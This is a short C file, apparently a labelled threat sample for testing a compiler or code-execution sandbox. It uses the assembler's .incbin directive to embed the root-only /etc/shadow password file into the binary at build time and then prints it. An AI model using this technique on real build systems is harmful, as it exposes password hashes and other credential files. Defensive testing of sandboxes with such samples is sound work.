/* Threat: embeds a file only root may read with the assembler's .incbin, and prints it. */
#include <stdio.h>
__asm__(".section .rodata\n"
        ".global stolen\n"
        "stolen:\n"
        ".incbin \"/etc/shadow\"\n"
        ".byte 0\n"
        ".previous\n");
extern const char stolen[];
int main(void) {
    printf("LEAK %s\n", stolen);
    return 0;
}
